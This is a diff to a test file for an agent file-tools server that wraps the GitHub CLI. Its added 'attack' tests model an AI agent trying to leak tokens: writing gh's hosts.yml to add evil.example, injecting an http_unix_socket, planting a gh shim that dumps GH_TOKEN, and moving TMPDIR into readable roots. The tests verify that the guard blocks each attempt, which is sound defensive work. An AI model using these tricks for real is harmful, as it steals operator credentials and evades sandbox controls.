@@ -16,7 +16,7 @@
  * One era only: nothing here depends on the protocol era (the era matrix is covered by github-issues.test.ts).
  */
 import { execFileSync } from 'node:child_process';
-import { chmodSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -35,6 +35,8 @@ const HOSTS = ['ghe.corp.example', 'api.github.com', 'evil.example', 'github.att
 
 const scratch = makeTree({ home: {}, ghcfg: {}, shim: {}, repos: {} }, 'fs-tools-ghhosts-');
 const HOME = path.join(scratch.dir, 'home');
+// gh configurations the operator wrote: outside the roots (one inside them is the agent's and is not used).
+const outsideCfg = mkdtempSync(path.join(os.tmpdir(), 'fs-tools-ghcfg-out-'));
 const LOG = path.join(scratch.dir, 'gh-starts.log');
 const GH = execFileSync('sh', ['-c', 'command -v gh || true'], { encoding: 'utf8' }).trim();
 
@@ -43,14 +45,17 @@ const clients: TestClient[] = [];
 beforeAll(async () => {
   forge = await TlsForge.start(HOSTS);
   // A gh that logs its start, then runs the real one.
-  const shim = path.join(scratch.dir, 'shim', 'gh');
-  writeFileSync(shim, `#!/bin/sh\necho start >> '${LOG}'\nexec '${GH}' "$@"\n`);
+  // Outside the roots: a gh inside them is never run (the agent could have planted it).
+  mkdirSync(path.join(outsideCfg, 'shim'), { recursive: true });
+  const shim = path.join(outsideCfg, 'shim', 'gh');
+  writeFileSync(shim, `#!/bin/sh\necho "start $GH_CONFIG_DIR" >> '${LOG}'\nexec '${GH}' "$@"\n`);
   chmodSync(shim, 0o755);
 });
 afterAll(async () => {
   for (const c of clients) await c.close();
   await forge?.close();
   scratch.cleanup();
+  rmSync(outsideCfg, { recursive: true, force: true });
 });
 beforeEach(() => {
   forge?.reset();
@@ -74,7 +79,7 @@ const EVIL = workTree('evil', { origin: 'git@evil.example:o/r.git' });
 async function server(extraArgs: string[] = [], overrides: Record<string, string> = {}): Promise<TestClient> {
   const env: Record<string, string> = {
     HOME, XDG_CONFIG_HOME: HOME, GH_CONFIG_DIR: path.join(scratch.dir, 'ghcfg'),
-    PATH: `${path.join(scratch.dir, 'shim')}:${process.env.PATH ?? ''}`,
+    PATH: `${path.join(outsideCfg, 'shim')}:${process.env.PATH ?? ''}`,
     HTTPS_PROXY: forge.proxyUrl, https_proxy: forge.proxyUrl, HTTP_PROXY: forge.proxyUrl, http_proxy: forge.proxyUrl,
     // An operator's NO_PROXY must not let gh around the guard either.
     NO_PROXY: 'evil.example', no_proxy: 'evil.example',
@@ -202,7 +207,7 @@ describe.skipIf(!GH)('issue #12: the real gh never takes a token, or data, to a 
   it('with --git-remote-allow=* another host is reachable, but neither token goes there', async () => {
     // gh must believe it is logged in somewhere (a hosts.yml entry without a token), or it would not run at all
     // without a token; and no NO_PROXY, so the guard forwards evil.example through the "internet" proxy.
-    const cfg = path.join(scratch.dir, 'ghcfg-any');
+    const cfg = path.join(outsideCfg, 'ghcfg-any');
     mkdirSync(cfg, { recursive: true });
     writeFileSync(path.join(cfg, 'hosts.yml'), 'ghe.corp.example:\n    user: me\n');
     const any = await server(['--git-remote-allow=*'], { GH_CONFIG_DIR: cfg, NO_PROXY: '', no_proxy: '' });
@@ -211,5 +216,104 @@ describe.skipIf(!GH)('issue #12: the real gh never takes a token, or data, to a 
     expect(r.isError, textOf(r)).toBeFalsy();
     expect(forge.requests.map((q) => [q.host, q.authorization])).toEqual([['evil.example', null]]);
     expect(forge.connects).toEqual(['evil.example:443']);
+  });
+
+  it('attack: with --git-remote-allow=* the github.com token does not go to github.localhost (plain http) unless named', async () => {
+    // gh sends GH_TOKEN to github.localhost as to github.com, over plain http to api.github.localhost:80 — whatever
+    // listens there. `*` allows the host, but the token belongs to github.com only.
+    const cfg = path.join(outsideCfg, 'ghcfg-any-local');
+    mkdirSync(cfg, { recursive: true });
+    writeFileSync(path.join(cfg, 'hosts.yml'), 'ghe.corp.example:\n    user: me\n');
+    const any = await server(['--git-remote-allow=*'], { GH_CONFIG_DIR: cfg, NO_PROXY: '', no_proxy: '' });
+    await any.call('github_issues', { action: 'list', repo: 'o/r', hostname: 'github.localhost' });
+    // Positive control: the request did reach the "internet" (so a token would have been seen).
+    expect(forge.plain).toEqual(['http://api.github.localhost/repos/o/r/issues?state=open&per_page=30&page=1']);
+    expect(forge.plainAuthorization).toEqual([null]);
+    // Named by the operator, the token goes there (gh's own rule).
+    forge.reset();
+    const named = await server(['--git-remote-allow=*,github.localhost'], { GH_CONFIG_DIR: cfg, NO_PROXY: '', no_proxy: '' });
+    await named.call('github_issues', { action: 'list', repo: 'o/r', hostname: 'github.localhost' });
+    expect(forge.plainAuthorization).toEqual([`token ${DOTCOM_TOKEN}`]);
+  });
+
+  it('attack: with TMPDIR inside a root, the private gh config holding the enterprise token is not created there', async () => {
+    // The agent could read it (read_file) while gh runs; it must be where no root reaches.
+    const tmp = path.join(scratch.dir, 'repos', 'tmp-in-root');
+    mkdirSync(tmp, { recursive: true });
+    const c = await server([], { TMPDIR: tmp });
+    forge.answers.set('ghe.corp.example/api/v3/repos/o/r/issues', { status: 200, body: issues('from GHE') });
+    const r = await c.call('github_issues', { action: 'list', repo: 'o/r', hostname: 'ghe.corp.example' });
+    expect(r.isError, textOf(r)).toBeFalsy();
+    expect(forge.requests.map((q) => [q.host, q.authorization])).toEqual([['ghe.corp.example', `token ${ENT_TOKEN}`]]);
+    const dirs = readFileSync(LOG, 'utf8').split('\n').filter(Boolean).map((l) => l.slice('start '.length));
+    expect(dirs).toHaveLength(1);
+    expect(dirs[0]).toContain(GH_TOKEN_DIR_PREFIX);
+    expect(path.relative(scratch.dir, dirs[0]).startsWith('..')).toBe(true);
+    expect(readdirSync(tmp)).toEqual([]);
+  });
+
+  it('attack: the agent writes gh\'s hosts.yml inside the roots to make its host "configured": still denied, no token', async () => {
+    // GH_CONFIG_DIR (scratch/ghcfg) lies inside the root (scratch). A host the agent adds there is not the operator's.
+    const cfgFile = path.join(scratch.dir, 'ghcfg', 'hosts.yml');
+    main ??= await server();
+    try {
+      const w = await main.call('write_file', { path: cfgFile, content: 'evil.example:\n    user: me\n' });
+      expect(w.isError, textOf(w)).toBeFalsy();
+      forge.answers.set('evil.example/api/v3/repos/o/r/issues', { status: 200, body: issues(EVIL_MARKER) });
+      const r = await call({ action: 'list', repo: 'o/r', hostname: 'evil.example' });
+      expect(textOf(r)).not.toContain(EVIL_MARKER);
+      expectCode(r, 'GH_HOST_DENIED');
+      expect(starts()).toBe(0);
+      expect(forge.connects).toEqual([]);
+      expect(forge.requests).toEqual([]);
+    } finally {
+      rmSync(cfgFile, { force: true });
+    }
+  });
+
+  it('attack: the agent writes http_unix_socket into gh\'s config.yml inside the roots: gh does not use it, the guard stays', async () => {
+    // gh 2.23 sends every request (token included) to that socket, around any proxy. A config the agent can write is
+    // not the operator's: gh runs with a private one.
+    const sockDir = mkdtempSync(path.join(os.tmpdir(), 'fs-tools-sock-'));
+    const sock = path.join(sockDir, 's');
+    const seen: Array<string | null> = [];
+    const local = http.createServer((req, res) => {
+      seen.push(req.headers.authorization ?? null);
+      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(issues(EVIL_MARKER)));
+    });
+    await new Promise<void>((r) => local.listen(sock, r));
+    const cfgFile = path.join(scratch.dir, 'ghcfg', 'config.yml');
+    main ??= await server();
+    try {
+      const w = await main.call('write_file', { path: cfgFile, content: `http_unix_socket: ${sock}\n` });
+      expect(w.isError, textOf(w)).toBeFalsy();
+      forge.answers.set('api.github.com/repos/o/r/issues', { status: 200, body: issues('from github.com') });
+      const r = await call({ action: 'list', repo: 'o/r' });
+      expect(r.isError, textOf(r)).toBeFalsy();
+      expect(textOf(r)).not.toContain(EVIL_MARKER);
+      expect(r.structuredContent!.issues).toMatchObject([{ title: 'from github.com' }]);
+      expect(seen).toEqual([]);
+      expect(forge.requests.map((q) => [q.host, q.authorization])).toEqual([['api.github.com', `token ${DOTCOM_TOKEN}`]]);
+    } finally {
+      rmSync(cfgFile, { force: true });
+      local.closeAllConnections();
+      await new Promise((r) => local.close(r));
+      rmSync(sockDir, { recursive: true, force: true });
+    }
+  });
+
+  it('attack: a gh planted in a PATH directory inside the roots is never run', async () => {
+    // E.g. a project's node_modules/.bin on PATH (npm run / npx): write_file keeps an existing executable's mode.
+    const bin = path.join(scratch.dir, 'repos', 'node_modules', '.bin');
+    mkdirSync(bin, { recursive: true });
+    const marker = path.join(scratch.dir, 'planted-ran');
+    writeFileSync(path.join(bin, 'gh'), `#!/bin/sh\necho "$GH_TOKEN $GH_ENTERPRISE_TOKEN" > '${marker}'\n`);
+    chmodSync(path.join(bin, 'gh'), 0o755);
+    const c = await server([], { PATH: `${bin}:${process.env.PATH ?? ''}` });
+    const e = expectCode(await c.call('github_issues', { action: 'list', repo: 'o/r' }), 'GH_CLI_MISSING');
+    expect(e.error.details).toMatchObject({ reason: 'inside_roots' });
+    expect(JSON.stringify(e)).not.toContain(bin);
+    expect(() => readFileSync(marker)).toThrow();
+    expect(forge.requests).toEqual([]);
   });
 });
